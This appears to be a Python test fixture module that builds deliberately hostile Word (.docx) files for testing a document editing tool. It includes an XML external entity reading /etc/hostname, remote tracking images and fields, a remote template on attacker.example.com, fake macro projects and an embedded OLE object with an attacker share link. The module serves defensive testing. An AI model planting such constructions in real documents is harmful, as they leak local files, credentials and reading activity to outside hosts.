"""Word files built to attack the edition: each is a real .docx (python-docx writes it) with one
hostile change made in its XML."""

from __future__ import annotations

import io
import zipfile

from tests.documents.conftest import word_file

R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rewrite(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """The package `data` with some entries replaced (None removes one) or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            if name in changes:
                if changes[name] is not None:
                    target.writestr(name, changes[name])
            else:
                target.writestr(name, source.read(name))
        for name, blob in changes.items():
            if name not in source.namelist() and blob is not None:
                target.writestr(name, blob)
    return out.getvalue()


def entry(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def names(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.namelist()


def _with_body(body_xml: str, *paragraphs: str) -> bytes:
    """A word file whose body gets `body_xml` added before its first paragraph."""
    data = word_file(*(paragraphs or ("Ordinary text.",)))
    document = entry(data, "word/document.xml").decode()
    at = document.index("<w:body>") + len("<w:body>")
    return rewrite(data, {"word/document.xml": (document[:at] + body_xml + document[at:]).encode()})


def _add_relationship(data: bytes, rels_part: str, xml: str) -> bytes:
    rels = entry(data, rels_part).decode()
    return rewrite(data, {rels_part: rels.replace("</Relationships>", xml + "</Relationships>").encode()})


def dtd_entity() -> bytes:
    """document.xml declares an entity reading a local file and uses it (issue 8, point 1)."""
    data = word_file("Before the entity.")
    document = entry(data, "word/document.xml").decode()
    head, rest = document.split("?>", 1)
    rest = rest.replace("Before the entity.", "Before the entity. &x;")
    hostile = f'{head}?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/hostname">]>{rest}'
    return rewrite(data, {"word/document.xml": hostile.encode()})


def external_image() -> bytes:
    """A picture whose bytes are fetched from a web server when the file is opened (r:link)."""
    data = _with_body(
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
        'wordprocessingDrawing"><wp:extent cx="100" cy="100"/><wp:docPr id="99" name="remote"/>'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.'
        'openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0" name="remote"/><pic:cNvPicPr/>'
        f'</pic:nvPicPr><pic:blipFill><a:blip xmlns:r="{R_NS}" r:link="rIdRemote"/></pic:blipFill><pic:spPr/>'
        '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
    return _add_relationship(data, "word/_rels/document.xml.rels",
                             '<Relationship Id="rIdRemote" Type="http://schemas.openxmlformats.org/officeDocument/'
                             '2006/relationships/image" Target="http://tracker.example.com/pixel.png" '
                             'TargetMode="External"/>')


def includepicture_fields() -> bytes:
    """A remote picture by field, once as a simple field and once as a complex one; and an INCLUDETEXT."""
    return _with_body(
        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://tracker.example.com/a.png&quot; \\d ">'
        '<w:r><w:t>simple shown</w:t></w:r></w:fldSimple></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
        'includepicture "http://tracker.example.com/b.png" </w:instrText></w:r><w:r><w:fldChar '
        'w:fldCharType="separate"/></w:r><w:r><w:t>complex shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
        '</w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE'
        '</w:instrText></w:r><w:r><w:instrText xml:space="preserve">TEXT '
        '"\\\\\\\\server\\\\share\\\\x.docx" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGE '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def attached_template() -> bytes:
    """settings.xml names a template on a remote share (Word fetches it on opening)."""
    data = word_file("Templated.")
    settings = entry(data, "word/settings.xml").decode()
    at = settings.index(">", settings.index("<w:settings")) + 1
    settings = settings[:at] + f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdTpl"/>' + settings[at:]
    return rewrite(data, {"word/settings.xml": settings.encode(), "word/_rels/settings.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdTpl" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="file://attacker.example.com/t.dotm" TargetMode="External"/></Relationships>').encode()})


def vba_project() -> bytes:
    """A .docx carrying a macro project (and its relationship), under the ordinary content type."""
    data = word_file("With macros.")
    data = rewrite(data, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake OLE macro storage"})
    data = _add_relationship(data, "word/_rels/document.xml.rels",
                             '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
                             'vbaProject" Target="vbaProject.bin"/>')
    types = entry(data, "[Content_Types].xml").decode().replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    return rewrite(data, {"[Content_Types].xml": types.encode()})


def macro_enabled() -> bytes:
    """The main part declared macro-enabled (.docm content), under a .docx name."""
    data = vba_project()
    types = entry(data, "[Content_Types].xml").decode().replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml")
    return rewrite(data, {"[Content_Types].xml": types.encode()})


def ole_object() -> bytes:
    """An embedded OLE object with its binary, and an external hyperlink to a file share."""
    data = _with_body(
        '<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml">'
        f'<o:OLEObject xmlns:r="{R_NS}" Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" '
        'ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>'
        f'<w:p><w:hyperlink xmlns:r="{R_NS}" r:id="rIdShare"><w:r><w:t>share link</w:t></w:r></w:hyperlink></w:p>'
        f'<w:p><w:hyperlink xmlns:r="{R_NS}" r:id="rIdWeb"><w:r><w:t>web link</w:t></w:r></w:hyperlink></w:p>')
    data = rewrite(data, {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 fake OLE"})
    for rel in ('<Relationship Id="rIdOle" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'oleObject" Target="embeddings/oleObject1.bin"/>',
                '<Relationship Id="rIdShare" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'hyperlink" Target="file://attacker.example.com/share" TargetMode="External"/>',
                '<Relationship Id="rIdWeb" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'hyperlink" Target="https://www.uclg.org/" TargetMode="External"/>'):
        data = _add_relationship(data, "word/_rels/document.xml.rels", rel)
    return data


def with_footnote(source: str = "the 2017 survey.") -> bytes:
    """A paragraph with a footnote, "Source: <source>" (python-docx cannot write one: the parts are
    added by hand)."""
    data = word_file("Cities act.")
    document = entry(data, "word/document.xml").decode().replace(
        "<w:t>Cities act.</w:t></w:r>",
        '<w:t>Cities act.</w:t></w:r><w:r><w:rPr><w:vertAlign w:val="superscript"/></w:rPr>'
        '<w:footnoteReference w:id="1"/></w:r>')
    footnotes = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="http://schemas.'
                 'openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:type="separator" w:id="-1"><w:p>'
                 '<w:r><w:separator/></w:r></w:p></w:footnote><w:footnote w:type="continuationSeparator" w:id="0">'
                 '<w:p><w:r><w:continuationSeparator/></w:r></w:p></w:footnote><w:footnote w:id="1"><w:p><w:r>'
                 f'<w:footnoteRef/></w:r><w:r><w:t xml:space="preserve"> Source: {source}</w:t></w:r></w:p>'
                 '</w:footnote></w:footnotes>')
    data = rewrite(data, {"word/document.xml": document.encode(), "word/footnotes.xml": footnotes.encode()})
    data = _add_relationship(data, "word/_rels/document.xml.rels",
                             '<Relationship Id="rIdFoot" Type="http://schemas.openxmlformats.org/officeDocument/'
                             '2006/relationships/footnotes" Target="footnotes.xml"/>')
    types = entry(data, "[Content_Types].xml").decode().replace(
        "</Types>", '<Override PartName="/word/footnotes.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.footnotes+xml"/></Types>')
    return rewrite(data, {"[Content_Types].xml": types.encode()})
